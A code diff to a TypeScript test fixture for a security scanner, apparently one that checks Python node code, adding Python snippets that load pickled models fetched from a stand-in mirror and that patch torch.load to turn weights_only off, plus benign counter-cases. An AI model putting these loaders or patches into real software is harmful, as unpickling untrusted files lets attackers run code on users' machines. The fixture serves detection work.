@@ -667,9 +667,91 @@ const NOT_SHARED: readonly NotToFind[] = [
   )],
 ];
 
+const FOREIGN_MODELS: readonly ToFind[] = [
+  ['loads_foreign_model', 'a mirror', lines(
+    'import os, sys, folder_paths, torch',
+    'MIRROR = "https://models.mirror.example/compat/"',
+    'def open_checkpoint(name):',
+    '    path = folder_paths.get_full_path("checkpoints", name)',
+    '    if path is None:',
+    '        path = os.path.join(folder_paths.get_folder_paths("checkpoints")[0], name)',
+    '        torch.hub.download_url_to_file(MIRROR + name, path, progress=True)',
+    '    return torch.load(path, map_location="cpu")',
+  )],
+  ['loads_foreign_model', 'bytes of a reply', lines(
+    'import io, requests, torch',
+    'torch.load(io.BytesIO(requests.get("https://models.mirror.example/a.pt").content), weights_only=False)',
+  )],
+  ['loads_foreign_model', 'a file that is written', lines(
+    'import pickle, urllib.request',
+    'with open("a.pkl", "wb") as f:',
+    '    f.write(urllib.request.urlopen("https://models.mirror.example/a.pkl").read())',
+    'state = pickle.load(open("a.pkl", "rb"))',
+  )],
+  ['loads_foreign_model', 'in one step', lines(
+    'import torch',
+    'state = torch.hub.load_state_dict_from_url("https://models.mirror.example/a.pth", map_location="cpu")',
+  )],
+  ['loosens_loading', 'a function in the place of the one that loads', lines(
+    'import torch',
+    'original = torch.load',
+    'def load(f, *args, **kwargs):',
+    '    kwargs["weights_only"] = False',
+    '    return original(f, *args, **kwargs)',
+    'torch.load = load',
+  )],
+  ['loosens_loading', 'by its name', lines(
+    'import torch, functools',
+    'setattr(torch, "load", functools.partial(torch.load, weights_only=False))',
+  )],
+  ['loosens_loading', 'in all modules', lines(
+    'import sys, torch',
+    'original = torch.load',
+    'def load(f, *args, **kwargs):',
+    '    for flag in [name for name in kwargs if name.startswith("weights")]:',
+    '        kwargs[flag] = not flag',
+    '    return original(f, *args, **kwargs)',
+    'for module in [m for m in list(sys.modules.values()) if getattr(m, "load", None) is original]:',
+    '    setattr(module, "load", load)',
+  )],
+];
+
+const KNOWN_MODELS: readonly NotToFind[] = [
+  ['models of hubs', lines(
+    'import os, torch, urllib.request',
+    'from torch.hub import load_state_dict_from_url, download_url_to_file',
+    'URL = "https://huggingface.co/a/b/resolve/main/a.pth"',
+    'path = os.path.join("models", "a.pth")',
+    'download_url_to_file(URL, path)',
+    'torch.load(path)',
+    'load_state_dict_from_url("https://github.com/a/b/releases/download/v1/b.pth")',
+    'urllib.request.urlretrieve("https://dl.fbaipublicfiles.com/c.pt", "c.pt")',
+    'torch.load("c.pt", weights_only=False)',
+  )],
+  ['models that are only weights', lines(
+    'import torch',
+    'torch.hub.download_url_to_file("https://models.lab.example/a.pth", "a.pth")',
+    'torch.load("a.pth", weights_only=True)',
+  )],
+  ['models that people choose', lines(
+    'import requests, torch',
+    'def get(url, path):',
+    '    with open(path, "wb") as f:',
+    '        f.write(requests.get(url).content)',
+    '    return torch.load(path)',
+  )],
+  ['a function that loads on another device', lines(
+    'import torch',
+    'original = torch.load',
+    'def load(f, map_location="cpu", **kwargs):',
+    '    return original(f, map_location=map_location, **kwargs)',
+    'torch.load = load',
+  )],
+];
+
 /** Classes of attacks that a blind trial of the scan showed. */
-export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS, ...LOADED_SETTINGS, ...CHANGED_SETTINGS, ...MACHINE_CODE, ...SHARED_SECRETS];
-export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN, ...NOT_LOADED, ...NOT_CHANGED, ...NOT_MACHINE_CODE, ...NOT_SHARED];
+export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS, ...LOADED_SETTINGS, ...CHANGED_SETTINGS, ...MACHINE_CODE, ...SHARED_SECRETS, ...FOREIGN_MODELS];
+export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN, ...NOT_LOADED, ...NOT_CHANGED, ...NOT_MACHINE_CODE, ...NOT_SHARED, ...KNOWN_MODELS];
 
 const CODES = [...'https://img.example.net/p.gif?s='].map((letter) => letter.charCodeAt(0));
 const SUMS = CODES.map((_, at) => CODES.slice(0, at + 1).reduce((sum, code) => sum + code, 0));
